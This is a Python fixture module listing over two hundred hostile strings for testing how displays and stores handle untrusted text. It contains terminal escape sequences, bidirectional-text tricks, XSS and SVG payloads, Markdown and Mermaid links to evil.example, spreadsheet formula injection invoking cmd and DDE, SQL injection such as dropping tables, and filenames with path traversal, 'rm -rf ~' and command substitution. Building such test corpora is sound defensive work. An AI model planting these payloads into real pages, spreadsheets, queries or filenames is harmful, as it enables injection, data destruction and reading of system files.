"""Texts that mean harm to whatever shows them: at least two hundred, by what they aim at.

Each is what a row, an id, a label's text, a model's words or a file's name may hold.
"""

from __future__ import annotations

ESC, CSI, OSC, ST, BEL = "\x1b", "\x1b[", "\x1b]", "\x1b\\", "\x07"

TERMINAL = (
    *(f"{CSI}{rest}" for rest in (
        "2J", "H", "31mred", "0m", "1A", "2K", "?1049h", "?25l", "6n", "c", "s", "u", "5i", "4i",
        "20t", "21t", "?2004h", "38;2;255;0;0m", "999999999C", "!p", ">0c", "1;1r", "3J", "8m",
    )),
    *(f"{OSC}{rest}" for rest in (
        f"0;pwned{BEL}", f"2;title{ST}", f"8;;http://evil.example{ST}click{OSC}8;;{ST}",
        f"52;c;cHduZWQ={BEL}", f"4;1;?{BEL}", f"1337;File=name=eA==;inline=1:AAAA{BEL}",
        f"50;#1{BEL}", f"133;C{BEL}", f"9;notice{BEL}", f"777;notify;a;b{BEL}", f"10;?{BEL}",
    )),
    f"{ESC}P+q544e{ST}", f"{ESC}_Gf=100;AAAA{ST}", f"{ESC}^pm{ST}", f"{ESC}Xsos{ST}",
    f"{ESC}c", f"{ESC}7", f"{ESC}8", f"{ESC}#8", f"{ESC}(0lqk", f"{ESC}%G", f"{ESC}N", f"{ESC}]",
    f"{ESC}[", f"{ESC}", f"{ESC}{ESC}[31m", f"{ESC}[31", "\x9b31mC1", "\x9d0;c1\x9c", "\x90q\x9c",
    "\x9f\x9c", "\x8d", "\x84", "\x85next", "\x9b2J", "a\bb\b\b\bc", "abc\rxyz", "\x7f\x7f",
    "\x00nul", "\x01\x02\x03", "\x0e\x0f", "\x11\x13", "\x1a", "\x1c\x1d\x1e\x1f", "a\vb\fc",
    "tab\there", "bell\x07\x07",
)  # fmt: skip

DIRECTION = (
    "\N{RIGHT-TO-LEFT OVERRIDE}evitisop\N{POP DIRECTIONAL FORMATTING}",
    "\N{LEFT-TO-RIGHT OVERRIDE}x", "\N{RIGHT-TO-LEFT EMBEDDING}x", "\N{LEFT-TO-RIGHT EMBEDDING}x",
    "\N{RIGHT-TO-LEFT ISOLATE}x\N{POP DIRECTIONAL ISOLATE}", "\N{LEFT-TO-RIGHT ISOLATE}x",
    "\N{FIRST STRONG ISOLATE}x", "txt.\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "zero\N{ZERO WIDTH SPACE}width", "\N{WORD JOINER}", "\ufeffmark", "soft\N{SOFT HYPHEN}hyphen",
    "\N{INTERLINEAR ANNOTATION ANCHOR}a", "line\N{LINE SEPARATOR}two",
    "para\N{PARAGRAPH SEPARATOR}two", "\U000e0041\U000e0042tags", "\ufff9\ufffa\ufffb",
    "half\ufffdchar", "a" + "\N{COMBINING ACUTE ACCENT}" * 60, "\N{MONGOLIAN VOWEL SEPARATOR}x",
)  # fmt: skip

MARKUP = (
    "[bold red]rich[/]", "[link=http://evil.example]x[/link]", "[/]", "[red", "\\[bold]",
    "[@click=app.quit]x[/]",
    "[blink]x[/blink]", "[[x]]", ":warning:", "[on red] [/on red]", "[#ff0000]x", "[/bold]",
    "{0}{name}{__class__}", "%s%n%x", "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
)  # fmt: skip

HTML = (
    "<script>alert(1)</script>", "</style></title><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "<b>bold</b>", "<!-- comment",
    "<svg onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<![CDATA[ x ]]>", "&lt;script&gt;", "&#60;b&#62;",
    "<details open ontoggle=alert(1)>", "<math><mi//xlink:href='data:x,<script>'>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<link rel=import href=//e>",
    "<template><script>1</script></template>", "<noscript><p title='</noscript><img>'>",
    "<textarea></textarea><script>1</script>", "<xmp><script>1</script></xmp>", "`onload=1`",
    "javascript:alert(1)", "data:text/html,<script>1</script>", "</td></tr></table><h1>x",
    "<ScRiPt>alert(1)</sCrIpT>", "<img/src=x/onerror=alert(1)>", "<\x00script>",
    "\\u003cscript\\u003e",
)  # fmt: skip

SVG = (
    "<use href='data:image/svg+xml,<svg id=x/>#x'/>", "</text><script>1</script><text>",
    "<foreignObject><body onload=1></foreignObject>", "<animate onbegin=alert(1) attributeName=x>",
    "<image href='//evil.example/x.png'/>", "<set attributeName=href to=javascript:1>",
)  # fmt: skip

MARKDOWN = (
    "```\n# heading\n---", "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "| a | b |",
    "# heading", "> quote", "- item", "1. item", "---", "***", "~~~\ncode", "<http://evil.example>",
    "[x]: http://evil.example", "$$x$$", "\\", "`code`", "*a* _b_", "http://evil.example",
    "```mermaid\ngraph TD; A-->B; click A href \"javascript:alert(1)\"\n```",
    "graph TD\n  A[\"<script>1</script>\"] --> B", "click A callback \"x\"", "%%{init: {}}%%",
    "end\nsubgraph x",
)  # fmt: skip

FORMULA = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  \n =1+1",
    "x;=1+1", "x\n=1+1", "x\t=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "x;@SUM(A1)",
    '=HYPERLINK("http://evil.example";"x")', "=IMPORTXML(\"http://evil.example\")", "'=1+1",
    "''=1+1", "\N{NO-BREAK SPACE}=1+1", "\ufeff=1+1", "\N{ZERO WIDTH SPACE}=1+1", "\uff1d1+1",
    "\uff201", "x\r\n+A1(B1)", '";=1+1', "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"x\")",
    "%0A=1+1", "x; =1+1", "x;'=1+1",
)  # fmt: skip

QUERY = (
    "'; drop table tasks; --", "' or '1'='1", "\"; delete from turns; --", "1; attach 'x' as y",
    "' union select * from prompts --", "%' escape '\\", "x' AND 1=CAST(x AS int)--",
    "NEAR(a b, 2)", "a AND b OR NOT c", "text:secret", "{says error}: x", "a*", "\"unbalanced",
    "^first", "a + b", "NOT", "AND", "(((", "-says : x", "a NEAR/2 b", "*", "''", "says:*",
    "\\", "col1:col2:", "a\"b\"c", "{", "}", "🙂 OR 1", "x" * 3000,
)  # fmt: skip

NAMES = (
    "-rf", "--help", "../../etc/passwd", "/etc/passwd", "a/b", "..", ".", "con", "nul.txt",
    "a\nb", "a;rm -rf ~", "$(touch pwned)", "`touch pwned`", "a|b", "a&b", "a>b", "*", "~root",
    "file with spaces", "ünïcödé", "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe", "%2e%2e%2f", "a\\b",
    "a'b", 'a"b', "#fragment", "?query", "a\x1b[31mb", "x" * 200, "\N{PILE OF POO}", "$HOME", "!!",
)  # fmt: skip

ALL: tuple[str, ...] = tuple(
    dict.fromkeys(
        (*TERMINAL, *DIRECTION, *MARKUP, *HTML, *SVG, *MARKDOWN, *FORMULA, *QUERY, *NAMES)
    )
)
